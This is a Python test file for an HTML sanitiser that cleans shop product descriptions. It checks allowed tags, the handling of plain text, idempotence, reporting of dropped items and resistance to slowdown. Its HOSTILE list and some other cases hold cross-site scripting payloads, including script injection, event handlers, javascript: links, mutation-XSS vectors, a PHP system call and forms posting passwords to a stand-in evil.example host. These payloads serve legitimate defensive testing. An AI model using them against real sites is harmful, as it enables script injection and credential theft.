"""Descriptions: what may stay in them, what never does, and that cleaning twice is cleaning once."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from app.domain.content import forbidden_characters, normalised
from app.domain.markup import ELEMENTS as HTML_ELEMENTS
from app.domain.markup import markup
from app.services import rich_text
from app.services.rich_text import Dropped, dropped, plain, sanitised

ELEMENTS = {"p", "br", "strong", "b", "em", "i", "u", "sub", "sup", "ul", "ol", "li", "h3", "h4", "a", "code", "pre"} | {
    "blockquote",
    "hr",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}
ATTRIBUTES = {"a": {"href", "rel"}, "th": {"colspan", "rowspan"}, "td": {"colspan", "rowspan"}}
# Any element may have them: a language, and a text to hover over.
GENERAL = {"lang", "title"}
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<p onclick='alert(1)' style='position:fixed'>text</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x' target=_top>x</a>",
    "<svg onload=alert(1)><path d='M0 0'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x><embed src=x>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example><meta http-equiv=refresh content=0><link rel=stylesheet href=x>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id') ?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=alert(1)>",
    "<b>&#x338; onclick=alert(1)//</b>",
    "<td background=javascript:alert(1) colspan=2>x",
    "<a href=https://x.example onmouseover=alert(1)//>x",
    "<p/onclick=alert(1)>x",
    '<p title="</p><script>alert(1)</script>">x',
]  # fmt: skip


class Inventory(HTMLParser):
    """What a browser finds in a text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.others: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)


def assert_harmless(text: str) -> None:
    found = Inventory(text)
    assert found.others == []
    for tag, attributes in found.elements:
        assert tag in ELEMENTS
        assert attributes.keys() <= ATTRIBUTES.get(tag, set()) | GENERAL
        if attributes.get("href"):
            assert re.match(r"(https?|mailto):|[^:]*$", attributes["href"] or "")


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_could_run_or_reach_out_is_left(text: str) -> None:
    assert_harmless(sanitised(text))


PIECES = [
    "<p>", "</p>", "<b>", "</b>", "<pre>", "</pre>", "\n", "\r\n", "\t", " ", "<table>", "<tr>", "<td colspan=2>", "</table>",
    "<ul>", "<li>", "<a href='", "javascript:", "https://x.example/?a=1&b=2", "'>", '">', "</a>", "<script>", "</script>",
    "<style>", "</style>", "<svg>", "<math>", "<mtext>", "<!--", "-->", "<![CDATA[", "]]>", "<?",
    "<!", "</", "<", ">", "&", "=", "onclick=",
    "&lt;", "&#x338;", "&#8203;", "&#x202e;", "&#x301;", "&#13;", "&#0;", "e", "\u0338", "<textarea>", "<plaintext>", "<xmp>",
    "<template>", "<noscript>", "<select>", "<option>", "<form>", "<title>", "&nbsp;",
]  # fmt: skip


@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=3), max_size=14).map("".join))
@example("<a href='<a href='&#0;</style>&&#13;<xmp><template>'><title><svg>&#x338;<math>>")
@example("</style>\r\n<ol><a href=//x></pre><pre>e\t<option><pre><plaintext>\r\n\nonclick=")
@example("<b>&#x338; onclick=alert(1)//</b>")
@example("<i>e&#x301;&#8203;</i>")
def test_cleaning_twice_is_cleaning_once_whatever_was_sent(text: str) -> None:
    """So the same unclean text written twice is no second version, and an export that is imported changes nothing."""
    clean = sanitised(text)
    assert sanitised(clean) == clean
    if clean != text:
        assert_harmless(clean)
        assert normalised(clean) == clean
        assert forbidden_characters(clean, multiline=True) is None


@given(st.text().filter(lambda text: not re.search(r"<[A-Za-z/!?]", text)))
@example("5 < 6 & 7 > 3, \"quoted\" 'so' &amp; &lt;b&gt;\n\n  two lines  ")
@example("a <3 b <= c < d")
def test_a_plain_text_stays_as_it_is_byte_for_byte(text: str) -> None:
    assert sanitised(text) == text


class Shown(HTMLParser):
    """The text content of what customers see of a description."""

    def __init__(self, description: str) -> None:
        super().__init__(convert_charrefs=True)
        self.pieces: list[str] = []
        # The rule of both pages: what holds no tag is a text.
        if re.search(r"<[A-Za-z/!?]", description):
            self.feed(description)
            self.close()
        else:
            self.pieces = [description]

    def handle_data(self, data: str) -> None:
        self.pieces.append(data)

    @property
    def text(self) -> str:
        return "".join(self.pieces)


NO_HTML = [
    "Leakage Ioff<Imax at 25 C. RoHS compliant.", "a<b and c>d only", "<info@shop.example>", "x <y> z", "5 < 6 & 7 > 3", "<<EOF",
    "vector<int>", "<3", "a <b", "<b", "</foo>", "a </foo bar> b", "<b\u00a0c>d", "i<p;", "if (a<b && c>d) x = y<i || z;",
    "std::map<std::string, std::vector<int>>", "<https://maker.example/a?b=c&d>", "<Jane Roe> 10 < x", "<time to market>",
    "Vgs<Vth, Id<1 uA, Vds<=30 V", "&nbsp <y> &lt;b&gt; &amp;", "one<two\n\nthree", "<!-- unfinished", "<!important>", "<?x ?>",
    "<![CDATA[x]]>", "<p class>", "<b and c=3>", "<a b=c>", "<\u017fcript>alert(1)</\u017fcript>", "<custom-element onclick='x'>",
    "<x onmouseover=alert(1)>", "<img src=x onerror=alert(1)//", "<svg onload=alert(1)//", "< b>x</ b>", "a<b\tc\r\nd",
]  # fmt: skip


@pytest.mark.parametrize("text", NO_HTML)
def test_what_is_no_html_is_shown_as_it_was_typed(text: str) -> None:
    clean = sanitised(text)
    assert Shown(clean).text == text.replace("\r\n", "\n")
    assert plain(clean) == " ".join(text.split())
    assert dropped(text, clean) == []
    assert sanitised(clean) == clean
    assert_harmless(clean)


def holds_html(text: str) -> bool:
    names = re.findall(r"</?([^\s/<>]*)", text.lower())
    return (
        any(name in HTML_ELEMENTS for name in names) or re.search(r"<(!--|!doctype|!\[|/?(o|v|w|st1):)", text.lower()) is not None
    )


@given(
    st.lists(
        st.text(st.characters(codec="ascii", exclude_categories=["Cc"]), max_size=8).map("<{}".format)
        | st.sampled_from(["&amp;", "&lt;", "&nbsp", "\n", ">", " ", "e", "\u00e9", "\u0338"])
    )
    .map(lambda pieces: normalised("".join(pieces)))
    .filter(lambda text: not holds_html(text))
)
@example("<c a</c>")
@example("\u0338<c")
def test_no_text_without_an_html_element_loses_a_letter(text: str) -> None:
    clean = sanitised(text)
    assert Shown(clean).text.strip() == text
    assert sanitised(clean) == clean
    assert normalised(clean) == clean
    assert dropped(text, clean) == []
    assert_harmless(clean)


# The content of the others is lost with them, or is no markup.
ORDINARY = sorted(
    HTML_ELEMENTS
    - {"script", "style", "svg", "math", "template"}
    - {"iframe", "noembed", "noframes", "noscript", "plaintext", "textarea", "title", "xmp"}
)


@given(
    st.lists(
        st.sampled_from(["Ioff<Imax ", "<y> ", "a < b & c ", "</z> ", "word "]) | st.sampled_from(ORDINARY).map("<{}>".format)
    )
)
@example(["<select>", "<y> ", "<frameset>", "a < b & c "])
def test_beside_html_the_rest_is_still_a_text(pieces: list[str]) -> None:
    text = "".join(pieces)
    typed = "".join(piece for piece in pieces if piece[1:-1] not in HTML_ELEMENTS)
    assert re.sub(r"\s+", "", Shown(sanitised(text)).text) == re.sub(r"\s+", "", typed)


@pytest.mark.parametrize(
    ("text", "clean", "lost"),
    [
        ("<script>alert(1)</script>Ioff<Imax", "<p>Ioff&lt;Imax</p>", [Dropped("element", "script", 1)]),
        (
            "<p onclick='a()' style=x>One <b onmouseover=b>two</b></p>",
            "<p>One <b>two</b></p>",
            [Dropped("attribute", "onclick", 1), Dropped("attribute", "onmouseover", 1), Dropped("attribute", "style", 1)],
        ),
        (
            "<a href='&#106;ava\nscript:x'>one</a> <a href=' JavaScript:y'>two</a>",
            '<a rel="noopener noreferrer nofollow">one</a> <a rel="noopener noreferrer nofollow">two</a>',
            [Dropped("address", "javascript", 2)],
        ),
        ("<svg/onload=alert(1)>", "", [Dropped("attribute", "onload", 1), Dropped("element", "svg", 1)]),
        ("<!doctype html><!-- a --><p>x</p><!-->", "<p>x</p>", [Dropped("comment", "", 3)]),
        ("<style>p{}</style><font size=1>R&amp;D</font>", "R&D", [Dropped("element", "font", 1), Dropped("element", "style", 1)]),
        ("<o:p></o:p><b>x</b>", "<b>x</b>", [Dropped("element", "o:p", 1)]),
        ("<iframe src=https://x.example></iframe>&lt;b&gt;", "<p>&lt;b&gt;</p>", [Dropped("element", "iframe", 1)]),
        ("<p>kept", "<p>kept</p>", []),
    ],
)  # fmt: skip
def test_what_is_dropped_is_said(text: str, clean: str, lost: list[Dropped]) -> None:
    assert sanitised(text) == clean
    assert dropped(text, clean) == lost


def test_a_notice_says_what_went_and_how_often() -> None:
    assert [
        str(one) for one in (Dropped("element", "script", 2), Dropped("address", "javascript", 1), Dropped("comment", "", 1))
    ] == [
        "the element script with what it held was dropped, 2 times",
        "a link to javascript: was dropped",
        "a comment or declaration was dropped",
    ]


@pytest.mark.parametrize(
    "piece", ["<b ", "<!--", "<svg>", "<b x='", "<script>", "<b a= ", "<b/", "--><!--", "<svg></svg>", "<title>", "<x"]
)
def test_a_text_made_to_take_long_does_not(piece: str) -> None:
    """Sixteen times the text takes about sixteen times as long; a search that begins anew at each place would take 256 times."""

    def seconds(length: int) -> float:
        text = piece * (length // len(piece))
        began = time.process_time()
        for _ in markup(text):
            pass
        return time.process_time() - began

    few, many = (min(seconds(length) for _ in range(5)) for length in (12_000, 192_000))
    assert many < 80 * few


def test_what_a_shop_says_of_its_parts_stays() -> None:
    text = (
        "<h3>Use</h3><p>For <strong>high</strong> <em>loads</em>: H<sub>2</sub>O, 10 mm<sup>2</sup>.<br>New.</p>"
        '<ul><li>one</li><li>two</li></ul><table><tbody><tr><th colspan="2">d</th></tr>'
        "<tr><td>1</td><td>2</td></tr></tbody></table>"
    )
    assert sanitised(text) == text


def test_a_link_tells_the_other_side_nothing_and_lends_it_no_weight() -> None:
    assert sanitised("<a href='https://maker.example/6205?x=1&y=2'>data</a>") == (
        '<a href="https://maker.example/6205?x=1&amp;y=2" rel="noopener noreferrer nofollow">data</a>'
    )


def test_markup_that_never_settles_is_left_out_with_its_words_kept(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rich_text, "ROUNDS", 1)
    assert sanitised("<p onclick=x>One & two</p><script>no</script>") == "One & two"


def test_the_plain_form_is_one_line_for_search_engines() -> None:
    assert plain("<h3>Use</h3><p>High &amp; low<br>loads</p><ul><li>1</li><li>2</li></ul>") == "Use High & low loads 1 2"
